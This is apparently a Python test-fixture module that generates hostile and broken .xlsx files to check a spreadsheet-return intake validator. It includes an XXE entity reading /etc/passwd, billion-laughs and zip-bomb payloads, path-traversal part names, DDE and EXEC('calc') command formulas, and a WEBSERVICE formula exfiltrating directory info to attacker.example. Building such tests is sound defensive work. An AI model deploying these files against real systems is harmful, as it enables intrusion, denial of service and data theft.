"""A corpus of hostile and broken returned files, built from a valid base workbook.

``build_corpus(base, out_dir)`` writes each case and returns (file, expected finding
code); ``build_benign(base, out_dir)`` writes unusual but harmless variants that must
pass. Pass the real return template as ``base`` to rerun the corpus against it; the
cases find its parts through [Content_Types].xml and its relationships.

Also here: parse functions that misbehave on purpose, for the bounded-runner tests
(they must be importable by name in a worker process).
"""

from __future__ import annotations

import os
import random
import re
import struct
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MB = 1024 * 1024
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
DOCTYPE = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
    + b"]>"
)


# --- writers that do what zipfile and Excel refuse to ------------------------------------------


@dataclass
class Entry:
    name: str | bytes
    data: bytes = b""
    method: int = 8  # 0 stored, 8 deflate
    label: int | None = None  # compression method written in the headers, if not `method`
    size: int | None = None  # declared uncompressed size, if not the real one
    crc: int | None = None
    flags: int = 0
    compressed: bytes | None = None  # data already deflated (give size and crc)
    alias: int | None = None  # share entry #alias's local header: overlapping parts


def raw_zip(entries: list[Entry]) -> bytes:
    out, central, offsets = bytearray(), bytearray(), []
    for e in entries:
        name = e.name if isinstance(e.name, bytes) else e.name.encode("utf-8")
        if e.compressed is not None:
            body = e.compressed
        elif e.method == 8:
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            body = packer.compress(e.data) + packer.flush()
        else:
            body = e.data
        crc = zlib.crc32(e.data) if e.crc is None else e.crc
        size = len(e.data) if e.size is None else e.size
        method = e.method if e.label is None else e.label
        fields = (e.flags, method, 0, 0x21, crc, len(body), size, len(name))
        if e.alias is None:
            offset = len(out)
            out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, *fields, 0) + name + body
        else:
            offset = offsets[e.alias]
        offsets.append(offset)
        central += (
            struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, *fields, 0, 0, 0, 0, 0, offset) + name
        )
    start = len(out)
    out += central + struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0
    )
    return bytes(out)


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal valid compound file (MS-CFB v3) holding up to three streams."""
    free, end, fat_sect, none = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    fat, body, entries = [fat_sect, end], b"", []
    for i, (name, data) in enumerate(streams.items()):
        blob = data.ljust(4096, b"\0")  # smaller streams would live in the mini stream
        blob = blob.ljust(-(-len(blob) // 512) * 512, b"\0")
        start, count = len(fat), len(blob) // 512
        fat += [start + k + 1 for k in range(count - 1)] + [end]
        body += blob
        right = i + 2 if i + 1 < len(streams) else none
        entries.append((name, 2, none, right, start, max(len(data), 4096)))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB3I", len(raw), kind, 1, none, right, child)
            + bytes(36)
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1, none, end, 0)
    directory += b"".join(entry(n, k, none, r, s, z) for n, k, _, r, s, z in entries)
    header = struct.pack(
        "<8s16s5H6s9I",
        bytes.fromhex("D0CF11E0A1B11AE1"),
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        1,
        1,
        0,
        4096,
        end,
        0,
        end,
        0,
    )
    header += struct.pack("<109I", 0, *[free] * 108)
    fat_sector = struct.pack("<128I", *(fat + [free] * (128 - len(fat))))
    return header + fat_sector + directory.ljust(512, b"\0") + body


def _declaring_fat_sectors(data: bytes, count: int) -> bytes:
    return data[:0x2C] + struct.pack("<I", count) + data[0x30:]


# --- the base package --------------------------------------------------------------------------


def make_base(path: Path) -> Path:
    """A small valid return-like workbook (openpyxl), with an ordinary web hyperlink."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Savings"
    ws.append(["Organisation", "Leicestershire County Council"])
    for row, year in enumerate(("2008/09", "2009/10", "2010/11"), start=2):
        ws.cell(row, 1, year)
        ws.cell(row, 2, 1000 * row)
    ws["B5"] = "=SUM(B2:B4)"
    ws.merge_cells("A7:C7")
    ws["A7"] = "Notes"
    ws["A8"] = "Guidance"
    ws["A8"].hyperlink = "https://www.example.org/ni179"
    wb.create_sheet("Notes")["A1"] = "Anything else?"
    wb.save(path)
    return path


class Pkg:
    """The base package's parts, to be changed and written back out."""

    def __init__(self, base: Path) -> None:
        with zipfile.ZipFile(base) as zf:
            self.parts = {name: zf.read(name) for name in zf.namelist()}
        types = self.parts["[Content_Types].xml"].decode()
        sheets = re.findall(r'PartName="/([^"]+)"\s+ContentType="' + re.escape(SHEET_CT), types)
        self.sheet = sheets[0] if sheets else "xl/worksheets/sheet1.xml"
        self.strings = next((p for p in self.parts if p.lower() == "xl/sharedstrings.xml"), "")

    def add(
        self,
        name: str,
        data: bytes,
        content_type: str = "",
        rel_type: str = "",
        source: str = "xl/workbook.xml",
        mode: str = "",
    ) -> Pkg:
        self.parts[name] = data
        if content_type:
            self.edit(
                "[Content_Types].xml",
                "</Types>",
                f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>',
            )
        if rel_type:
            self.relate(source, rel_type, "/" + name, mode)
        return self

    def relate(self, source: str, rel_type: str, target: str, mode: str = "") -> Pkg:
        folder, file = source.rsplit("/", 1) if "/" in source else ("", source)
        rels = f"{folder}/_rels/{file}.rels".lstrip("/")
        if rels not in self.parts:
            self.parts[rels] = f'<Relationships xmlns="{PKG_RELS}"></Relationships>'.encode()
        extra = f' TargetMode="{mode}"' if mode else ""
        return self.edit(
            rels,
            "</Relationships>",
            f'<Relationship Id="rIdX{len(self.parts)}" '
            f'Type="{rel_type}" Target="{target}"{extra}/></Relationships>',
        )

    def edit(self, part: str, old: str, new: str, count: int = 1) -> Pkg:
        text = self.parts[part].decode("utf-8")
        if old not in text:
            raise ValueError(f"{old!r} not in {part}")
        self.parts[part] = text.replace(old, new, count).encode("utf-8")
        return self

    def cells(self, xml: str) -> Pkg:
        """Append rows to the first sheet."""
        text = self.parts[self.sheet].decode()
        if "<sheetData/>" in text:
            text = text.replace("<sheetData/>", "<sheetData></sheetData>")
        self.parts[self.sheet] = text.replace("</sheetData>", xml + "</sheetData>", 1).encode()
        return self

    def after_data(self, xml: str) -> Pkg:
        return self.edit(self.sheet, "</sheetData>", "</sheetData>" + xml)

    def with_prolog(self, part: str, prolog: bytes) -> Pkg:
        data = re.sub(rb"^\s*<\?xml[^>]*\?>", b"", self.parts[part])
        self.parts[part] = b'<?xml version="1.0" encoding="UTF-8"?>' + prolog + data
        return self

    def zip(self, **overrides: Entry) -> bytes:
        return raw_zip([overrides.get(n, Entry(n, d)) for n, d in self.parts.items()])


def _sheet(body: str, prefix: str = "") -> bytes:
    p = f"{prefix}:" if prefix else ""
    decl = f"xmlns:{prefix}" if prefix else "xmlns"
    return (
        f'<{p}worksheet {decl}="{MAIN}"><{p}sheetData>{body}</{p}sheetData></{p}worksheet>'
    ).encode()


def _dimension(pkg: Pkg, ref: str) -> Pkg:
    text = pkg.parts[pkg.sheet].decode()
    if "<dimension" in text:
        text = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', text, count=1)
    else:
        text = text.replace("<sheetData", f'<dimension ref="{ref}"/><sheetData', 1)
    pkg.parts[pkg.sheet] = text.encode()
    return pkg


def _extra(pkg: Pkg, *entries: Entry) -> bytes:
    return raw_zip([Entry(n, d) for n, d in pkg.parts.items()] + list(entries))


def _without(pkg: Pkg, name: str) -> bytes:
    del pkg.parts[name]
    return pkg.zip()


def _replace(pkg: Pkg, name: str, data: bytes) -> bytes:
    pkg.parts[name] = data
    return pkg.zip()


def _stored(pkg: Pkg, name: str, data: bytes) -> bytes:
    pkg.parts[name] = data
    return pkg.zip(**{name: Entry(name, data, method=0)})


def _strings(pkg: Pkg) -> str:
    if not pkg.strings:
        pkg.strings = "xl/sharedStrings.xml"
        pkg.add(
            pkg.strings,
            f'<sst xmlns="{MAIN}"/>'.encode(),
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
            f"{OFFICE_RELS}/sharedStrings",
        )
    return pkg.strings


def _sst(items: str, unique: str = "") -> bytes:
    count = f' uniqueCount="{unique}"' if unique else ""
    return f'<sst xmlns="{MAIN}"{count}>{items}</sst>'.encode()


def _random(name: str, n: int, declared: int) -> Entry:
    return Entry(name, random.Random(n).randbytes(n), size=declared)


def _bomb(pkg: Pkg) -> bytes:
    """A sheet of 100 MB of spaces that deflates to about 100 KB."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head, chunk = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode(), b" " * MB
    body, crc = [packer.compress(head)], zlib.crc32(head)
    for _ in range(100):
        body.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    body.append(packer.flush())
    entry = Entry(pkg.sheet, compressed=b"".join(body), size=len(head) + 100 * MB, crc=crc)
    return pkg.zip(**{pkg.sheet: entry})


def _cell_bomb(pkg: Pkg) -> bytes:
    """1.4 million cells without addresses (20 MB of XML) in an 80 KB file: openpyxl, which
    numbers such cells itself, took 19 s and 670 MB to open it outside the worker."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    row, tail = b"<row>" + b"<c><v>1</v></c>" * 100 + b"</row>", b"</sheetData></worksheet>"
    body, crc = [packer.compress(head)], zlib.crc32(head)
    for _ in range(14_000):
        body.append(packer.compress(row))
        crc = zlib.crc32(row, crc)
    body += [packer.compress(tail), packer.flush()]
    size = len(head) + 14_000 * len(row) + len(tail)
    entry = Entry(pkg.sheet, compressed=b"".join(body), size=size, crc=zlib.crc32(tail, crc))
    return pkg.zip(**{pkg.sheet: entry})


def _utf16(pkg: Pkg, part: str, prolog: str, encoding: str) -> bytes:
    text = re.sub(r"^\s*<\?xml[^>]*\?>", "", pkg.parts[part].decode())
    return _replace(
        pkg, part, (f'<?xml version="1.0" encoding="UTF-16"?>{prolog}{text}').encode(encoding)
    )


def _reencode(pkg: Pkg, part: str, declared: str, codec: str) -> bytes:
    text = re.sub(r"^\s*<\?xml[^>]*\?>", "", pkg.parts[part].decode())
    return _replace(pkg, part, f'<?xml version="1.0" encoding="{declared}"?>{text}'.encode(codec))


def _defined_name(pkg: Pkg, xml: str) -> bytes:
    text = pkg.parts["xl/workbook.xml"].decode()
    if "<definedNames>" in text:
        return pkg.edit("xl/workbook.xml", "<definedNames>", "<definedNames>" + xml).zip()
    return pkg.edit(
        "xl/workbook.xml", "</sheets>", f"</sheets><definedNames>{xml}</definedNames>"
    ).zip()


def _main_type(pkg: Pkg, content_type: str) -> bytes:
    types = pkg.parts["[Content_Types].xml"].decode()
    types = re.sub(
        r'(PartName="/xl/workbook.xml"\s+ContentType=")[^"]*', r"\g<1>" + content_type, types
    )
    return _replace(pkg, "[Content_Types].xml", types.encode())


def _link(pkg: Pkg, body: str) -> Pkg:
    pkg.edit(
        "xl/workbook.xml",
        "</sheets>",
        f"</sheets><externalReferences><externalReference "
        f'xmlns:r="{OFFICE_RELS}" r:id="rIdLink"/></externalReferences>',
    )
    return pkg.add(
        "xl/externalLinks/externalLink1.xml",
        f'<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE_RELS}">{body}</externalLink>'.encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        f"{OFFICE_RELS}/externalLink",
    )


def _grid(rows: int, columns: int) -> bytes:
    letters = [
        chr(65 + i // 26 - 1) + chr(65 + i % 26) if i >= 26 else chr(65 + i) for i in range(columns)
    ]
    return _sheet(
        "".join(
            f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in letters) + "</row>"
            for r in range(1, rows + 1)
        )
    )


Builder = Callable[[Pkg], bytes]
DDE = "cmd|' /C calc'!A0"
MS_RELS = "http://schemas.microsoft.com/office/2006/relationships"
CT = "application/vnd.openxmlformats-officedocument.spreadsheetml."
ODS = [
    Entry("mimetype", b"application/vnd.oasis.opendocument.spreadsheet", method=0),
    Entry("content.xml", b"<office:document-content/>"),
    Entry("META-INF/manifest.xml", b"<m/>"),
]
XLSB = [
    Entry("[Content_Types].xml", b"<Types/>"),
    Entry("_rels/.rels", b"<Relationships/>"),
    Entry("xl/workbook.bin", b"\x83\x01\x00"),
    Entry("xl/worksheets/sheet1.bin", b"\x81\x01"),
]

CASES: list[tuple[str, str, Builder]] = [
    # Not a zip at all.
    ("empty.xlsx", "empty-file", lambda _: b""),
    ("export.xlsx", "csv-file", lambda _: b"Organisation,Year,Savings\r\nLEI,2009/10,1200\r\n"),
    (
        "unicode-text.xlsx",
        "csv-file",
        lambda _: "Organisation\tYear\r\nLEI\t2009\r\n".encode("utf-16"),
    ),
    ("web-page.xlsx", "html-file", lambda _: b"<html><body><table><tr><td>1</td></tr></table>"),
    (
        "web-archive.xlsx",
        "html-file",
        lambda _: b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="x"\r\n',
    ),
    (
        "xml-2003.xlsx",
        "not-a-workbook",
        lambda _: (
            b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">'
        ),
    ),
    ("random.xlsx", "not-a-workbook", lambda _: random.Random(179).randbytes(4096)),
    ("report.xlsx", "not-a-workbook", lambda _: b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
    ("letter.xlsx", "not-a-workbook", lambda _: b"Dear colleague\r\nOur return is attached.\r\n"),
    (
        "legacy.xls",
        "legacy-xls",
        lambda _: ole_file(
            {"Workbook": b"\x09\x08\x10\x00\x00\x06", "\x05SummaryInformation": b""}
        ),
    ),
    (
        "encrypted.xlsx",
        "password-protected",
        lambda _: ole_file(
            {
                "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
                "EncryptedPackage": random.Random(7).randbytes(5000),
            }
        ),
    ),
    # Some encryptors declare more allocation sectors than a small file needs (calamine's
    # pass_protected.xlsx has three for 28 sectors): still a workbook that needs a password.
    (
        "encrypted-roomy.xlsx",
        "password-protected",
        lambda _: _declaring_fat_sectors(
            ole_file(
                {
                    "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<?xml",
                    "EncryptedPackage": random.Random(7).randbytes(5000),
                }
            ),
            3,
        ),
    ),
    (
        "damaged-ole.xls",
        "corrupt-file",
        lambda _: bytes.fromhex("D0CF11E0A1B11AE1") + b"\xff" * 600,
    ),
    ("prefixed-zip.xlsx", "not-a-workbook", lambda pkg: b"JUNK" * 64 + pkg.zip()),
    # Zips that are not .xlsx, or damaged or crafted zips.
    ("ods.xlsx", "ods-file", lambda _: raw_zip(ODS)),
    ("binary.xlsx", "binary-xlsb", lambda _: raw_zip(XLSB)),
    (
        "word.xlsx",
        "not-a-workbook",
        lambda _: raw_zip(
            [Entry("[Content_Types].xml", b"<Types/>"), Entry("word/document.xml", b"")]
        ),
    ),
    ("archive.xlsx", "not-a-workbook", lambda _: raw_zip([Entry("notes.txt", b"hello")])),
    ("truncated.xlsx", "corrupt-file", lambda pkg: (data := pkg.zip())[: len(data) * 2 // 3]),
    ("truncated-directory.xlsx", "corrupt-file", lambda pkg: pkg.zip()[:-10]),
    (
        "bad-crc.xlsx",
        "corrupt-file",
        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], crc=1)}),
    ),
    (
        "bad-deflate.xlsx",
        "corrupt-file",
        lambda pkg: pkg.zip(
            **{pkg.sheet: Entry(pkg.sheet, compressed=b"\xff" * 64, size=100, crc=0)}
        ),
    ),
    ("duplicate.xlsx", "duplicate-part", lambda pkg: _extra(pkg, Entry(pkg.sheet, _sheet("")))),
    (
        "case-clash.xlsx",
        "duplicate-part",
        lambda pkg: _extra(pkg, Entry("xl/Workbook.xml", pkg.parts["xl/workbook.xml"])),
    ),
    ("dot-dot.xlsx", "unsafe-part-path", lambda pkg: _extra(pkg, Entry("../../evil.xml", b"<x/>"))),
    ("absolute.xlsx", "unsafe-part-path", lambda pkg: _extra(pkg, Entry("/etc/cron.d/x", b"x"))),
    (
        "backslash.xlsx",
        "unsafe-part-path",
        lambda pkg: _extra(pkg, Entry("xl\\worksheets\\sheet9.xml", b"<x/>")),
    ),
    (
        "nul-name.xlsx",
        "unsafe-part-path",
        lambda pkg: _extra(pkg, Entry(b"xl/a.xml\x00.png", b"x")),
    ),
    (
        "declared-huge.xlsx",
        "too-large",
        lambda pkg: _extra(pkg, _random("xl/media/image9.png", 300_000, 25 * MB)),
    ),
    (
        "declared-huge-total.xlsx",
        "too-large",
        lambda pkg: _extra(
            pkg, *[_random(f"xl/media/image{i}.png", 300_000 + i, 18 * MB) for i in range(3)]
        ),
    ),
    (
        "file-too-big.xlsx",
        "too-large",
        lambda pkg: _extra(
            pkg, Entry("xl/media/image9.png", random.Random(1).randbytes(21 * MB), method=0)
        ),
    ),
    ("zip-bomb.xlsx", "zip-bomb", _bomb),
    ("cell-bomb.xlsx", "zip-bomb", _cell_bomb),
    (
        "many-parts.xlsx",
        "too-many-parts",
        lambda pkg: _extra(
            pkg, *[Entry(f"xl/media/image{i}.png", b"x", method=0) for i in range(1200)]
        ),
    ),
    ("overlapping.xlsx", "corrupt-file", lambda pkg: _extra(pkg, Entry("xl/media/a.png", alias=0))),
    (
        "understated-size.xlsx",
        "corrupt-file",
        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], size=100)}),
    ),
    (
        "bzip2.xlsx",
        "corrupt-file",
        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], label=12)}),
    ),
    (
        "zip-encrypted.xlsx",
        "password-protected",
        lambda pkg: pkg.zip(**{pkg.sheet: Entry(pkg.sheet, pkg.parts[pkg.sheet], flags=1)}),
    ),
    # XML parts.
    (
        "doctype-workbook.xlsx",
        "xml-dtd",
        lambda pkg: pkg.with_prolog("xl/workbook.xml", b"<!DOCTYPE workbook>").zip(),
    ),
    ("billion-laughs.xlsx", "xml-dtd", lambda pkg: pkg.with_prolog(_strings(pkg), LAUGHS).zip()),
    (
        "xxe-sheet.xlsx",
        "xml-dtd",
        lambda pkg: (
            pkg.with_prolog(pkg.sheet, DOCTYPE)
            .cells('<row r="1999"><c r="A1999" t="inlineStr"><is><t>&xxe;</t></is></c></row>')
            .zip()
        ),
    ),
    (
        "utf16-dtd.xlsx",
        "xml-dtd",
        lambda pkg: _utf16(pkg, "xl/styles.xml", '<!DOCTYPE x [<!ENTITY a "b">]>', "utf-16"),
    ),
    (
        "utf16be-dtd.xlsx",
        "xml-dtd",
        lambda pkg: _utf16(pkg, "_rels/.rels", "<!DOCTYPE x>", "utf-16-be"),
    ),
    (
        "vml-dtd.xlsx",
        "xml-dtd",
        lambda pkg: _extra(
            pkg,
            Entry(
                "xl/drawings/vmlDrawing9.vml",
                b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><xml>',
            ),
        ),
    ),
    ("utf7.xlsx", "corrupt-file", lambda pkg: _reencode(pkg, "xl/styles.xml", "UTF-7", "utf-7")),
    ("utf32.xlsx", "corrupt-file", lambda pkg: _reencode(pkg, "xl/styles.xml", "UTF-32", "utf-32")),
    (
        "malformed-sheet.xlsx",
        "corrupt-file",
        lambda pkg: _replace(
            pkg, pkg.sheet, pkg.parts[pkg.sheet][: len(pkg.parts[pkg.sheet]) // 2]
        ),
    ),
    (
        "bad-cell-ref.xlsx",
        "corrupt-file",
        lambda pkg: pkg.cells('<row r="1998"><c r="A0"><v>1</v></c></row>').zip(),
    ),
    (
        "binary-sheet.xlsx",
        "corrupt-file",
        lambda pkg: _replace(pkg, pkg.sheet, random.Random(3).randbytes(2000)),
    ),
    # Macros, links, connections, embedded objects.
    (
        "vba.xlsx",
        "macros",
        lambda pkg: pkg.add(
            "xl/vbaProject.bin",
            ole_file({"VBA": b"Attribute"}),
            "application/vnd.ms-office.vbaProject",
            f"{MS_RELS}/vbaProject",
        ).zip(),
    ),
    (
        "xlsm.xlsx",
        "macros",
        lambda pkg: _main_type(pkg, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    ),
    (
        "macro-sheet.xlsx",
        "macros",
        lambda pkg: pkg.add(
            "xl/macrosheets/sheet1.xml",
            _sheet('<row r="1"><c r="A1"><f>EXEC("calc")</f></c></row>'),
            "application/vnd.ms-excel.macrosheet+xml",
            f"{MS_RELS}/xlMacrosheet",
        ).zip(),
    ),
    (
        "external-link.xlsx",
        "external-link",
        lambda pkg: (
            _link(
                pkg,
                '<externalBook r:id="rId1"><sheetNames><sheetName val="Budget"/></sheetNames>'
                "</externalBook>",
            )
            .relate(
                "xl/externalLinks/externalLink1.xml",
                f"{OFFICE_RELS}/externalLinkPath",
                "file:///C:/Finance/budget.xlsx",
                "External",
            )
            .zip()
        ),
    ),
    (
        "external-relationship.xlsx",
        "external-link",
        lambda pkg: pkg.relate(
            pkg.sheet,
            f"{OFFICE_RELS}/externalLinkPath",
            "file://server/share/budget.xlsx",
            "External",
        ).zip(),
    ),
    (
        "linked-picture.xlsx",
        "external-link",
        lambda pkg: (
            pkg.add("xl/drawings/drawing9.xml", b"<wsDr/>")
            .relate(
                "xl/drawings/drawing9.xml",
                f"{OFFICE_RELS}/image",
                "file://attacker/share/a.png",
                "External",
            )
            .zip()
        ),
    ),
    (
        "dde-formula.xlsx",
        "dde-link",
        lambda pkg: pkg.cells(f'<row r="1999"><c r="B1999"><f>{DDE}</f></c></row>').zip(),
    ),
    (
        "dde-defined-name.xlsx",
        "dde-link",
        lambda pkg: _defined_name(pkg, f'<definedName name="Go">{DDE}</definedName>'),
    ),
    (
        "dde-validation.xlsx",
        "dde-link",
        lambda pkg: pkg.after_data(
            '<dataValidations count="1"><dataValidation type="list" sqref="C2">'
            f"<formula1>{DDE}</formula1></dataValidation></dataValidations>"
        ).zip(),
    ),
    (
        "dde-link.xlsx",
        "dde-link",
        lambda pkg: _link(
            pkg,
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
            "</ddeItems></ddeLink>",
        ).zip(),
    ),
    (
        "connections.xlsx",
        "data-connection",
        lambda pkg: pkg.add(
            "xl/connections.xml",
            f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="1">'
            '<dbPr connection="DSN=x" command="SELECT 1"/></connection></connections>'.encode(),
            CT + "connections+xml",
            f"{OFFICE_RELS}/connections",
        ).zip(),
    ),
    (
        "query-table.xlsx",
        "data-connection",
        lambda pkg: pkg.add(
            "xl/queryTables/queryTable1.xml",
            f'<queryTable xmlns="{MAIN}" name="q" connectionId="1"/>'.encode(),
            CT + "queryTable+xml",
            f"{OFFICE_RELS}/queryTable",
            source=pkg.sheet,
        ).zip(),
    ),
    (
        "embedded-zip.xlsx",
        "embedded-object",
        lambda pkg: pkg.add(
            "xl/embeddings/oleObject1.bin",
            raw_zip([Entry("inner.xlsx", b"0" * MB)]),
            "application/vnd.openxmlformats-officedocument.oleObject",
            f"{OFFICE_RELS}/oleObject",
            source=pkg.sheet,
        ).zip(),
    ),
    (
        "activex.xlsx",
        "embedded-object",
        lambda pkg: pkg.add(
            "xl/activeX/activeX1.xml",
            b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/'
            b'activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>',
            "application/vnd.ms-office.activeX+xml",
        ).zip(),
    ),
    # Missing parts.
    ("no-content-types.xlsx", "missing-part", lambda pkg: _without(pkg, "[Content_Types].xml")),
    ("no-workbook.xlsx", "missing-part", lambda pkg: _without(pkg, "xl/workbook.xml")),
    (
        "no-workbook-rels.xlsx",
        "missing-part",
        lambda pkg: _without(pkg, "xl/_rels/workbook.xml.rels"),
    ),
    ("missing-sheet.xlsx", "missing-part", lambda pkg: _without(pkg, pkg.sheet)),
    # Sheets and text far beyond a return.
    (
        "xfd-lying-dimension.xlsx",
        "sheet-too-large",
        lambda pkg: (
            _dimension(pkg, "A1:C8").cells('<row><c r="XFD1048576"><v>1</v></c></row>').zip()
        ),
    ),
    (
        "xfd-honest-dimension.xlsx",
        "sheet-too-large",
        lambda pkg: (
            _dimension(pkg, "A1:XFD1048576")
            .cells('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
            .zip()
        ),
    ),
    ("dimension-only.xlsx", "sheet-too-large", lambda pkg: _dimension(pkg, "A1:XFD1048576").zip()),
    (
        "far-column.xlsx",
        "sheet-too-large",
        lambda pkg: pkg.cells('<row r="1990"><c r="HZ1990"><v>1</v></c></row>').zip(),
    ),
    ("far-row.xlsx", "sheet-too-large", lambda pkg: pkg.cells('<row r="1048576"/>').zip()),
    (
        "huge-merge.xlsx",
        "sheet-too-large",
        lambda pkg: pkg.after_data(
            '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ).zip(),
    ),
    (
        "huge-hyperlink.xlsx",
        "sheet-too-large",
        lambda pkg: pkg.after_data(
            '<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'
        ).zip(),
    ),
    # Stored, not deflated, so that these get past the compression-ratio check.
    (
        "element-flood.xlsx",
        "too-large",
        lambda pkg: _stored(pkg, pkg.sheet, _sheet("<x/>" * 700_000)),
    ),
    (
        "deep-nesting.xlsx",
        "too-large",
        lambda pkg: _stored(pkg, pkg.sheet, _sheet("<a>" * 700_000)),
    ),
    (
        "relationship-flood.xlsx",
        "too-large",
        lambda pkg: _stored(
            pkg,
            "xl/_rels/workbook.xml.rels",
            pkg.parts["xl/_rels/workbook.xml.rels"].replace(
                b"</Relationships>",
                b'<Relationship Id="x" Type="t" Target="t"/>' * 25_000 + b"</Relationships>",
            ),
        ),
    ),
    (
        "too-many-cells.xlsx",
        "too-many-cells",
        lambda pkg: _replace(pkg, pkg.sheet, _grid(1000, 150)),
    ),
    (
        "many-strings.xlsx",
        "too-much-text",
        lambda pkg: _replace(pkg, _strings(pkg), _sst("<si><t>x</t></si>" * 60_000)),
    ),
    (
        "long-string.xlsx",
        "too-much-text",
        lambda pkg: _replace(pkg, _strings(pkg), _sst(f"<si><t>{'x' * 40_000}</t></si>")),
    ),
    (
        "lying-unique-count.xlsx",
        "too-much-text",
        lambda pkg: _replace(pkg, _strings(pkg), _sst("<si><t>x</t></si>", "4000000000")),
    ),
    # Packages two programs could read two ways, and formulas that reach outside.
    (
        "second-workbook.xlsx",
        "ambiguous-package",
        lambda pkg: (
            pkg.add("xl/book2.xml", pkg.parts["xl/workbook.xml"])
            .relate("", f"{OFFICE_RELS}/officeDocument", "/xl/book2.xml")
            .zip()
        ),
    ),
    ("demoted-workbook.xlsx", "ambiguous-package", lambda pkg: _main_type(pkg, "application/xml")),
    (
        "duplicate-relationship-id.xlsx",
        "ambiguous-package",
        lambda pkg: pkg.edit(
            "xl/_rels/workbook.xml.rels",
            "</Relationships>",
            f'<Relationship Id="rId1" Type="{OFFICE_RELS}/worksheet" Target="/{pkg.sheet}"/></Relationships>',
        ).zip(),
    ),
    (
        "strict-open-xml.xlsx",
        "strict-xlsx",
        lambda pkg: pkg.edit(
            "_rels/.rels",
            f"{OFFICE_RELS}/officeDocument",
            "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
        ).zip(),
    ),
    (
        "cell-in-extension.xlsx",
        "ambiguous-cell",
        lambda pkg: pkg.after_data(
            '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}"><c r="B2"><v>163.5</v></c></ext></extLst>'
        ).zip(),
    ),
    (
        "cell-given-twice.xlsx",
        "ambiguous-cell",
        lambda pkg: pkg.cells(
            '<row r="1999"><c r="B1999"><v>1</v></c><c r="B1999"><v>2</v></c></row>'
        ).zip(),
    ),
    (
        "webservice-formula.xlsx",
        "outward-formula",
        lambda pkg: pkg.cells(
            '<row r="1999"><c r="B1999"><f>_xlfn.WEBSERVICE("https://attacker.example/?"&amp;INFO("directory"))</f>'
            "</c></row>"
        ).zip(),
    ),
    (
        "webservice-format.xlsx",
        "outward-formula",
        lambda pkg: pkg.after_data(
            '<conditionalFormatting sqref="B2"><cfRule type="expression" priority="1" dxfId="0">'
            '<formula>LEN(WEBSERVICE("https://attacker.example/"))&gt;0</formula></cfRule></conditionalFormatting>'
        ).zip(),
    ),
]

# Found in the cells, by the reader as it reads them (``xl_ni179.intake.reader``, under the
# safety limits); every other case is refused by the package check before any reader runs.
IN_CELLS = frozenset(
    {
        "malformed-sheet.xlsx",
        "bad-cell-ref.xlsx",
        "dde-formula.xlsx",
        "dde-validation.xlsx",
        "xfd-lying-dimension.xlsx",
        "xfd-honest-dimension.xlsx",
        "dimension-only.xlsx",
        "far-column.xlsx",
        "far-row.xlsx",
        "huge-merge.xlsx",
        "huge-hyperlink.xlsx",
        "element-flood.xlsx",
        "deep-nesting.xlsx",
        "too-many-cells.xlsx",
        "many-strings.xlsx",
        "long-string.xlsx",
        "lying-unique-count.xlsx",
        "cell-in-extension.xlsx",
        "cell-given-twice.xlsx",
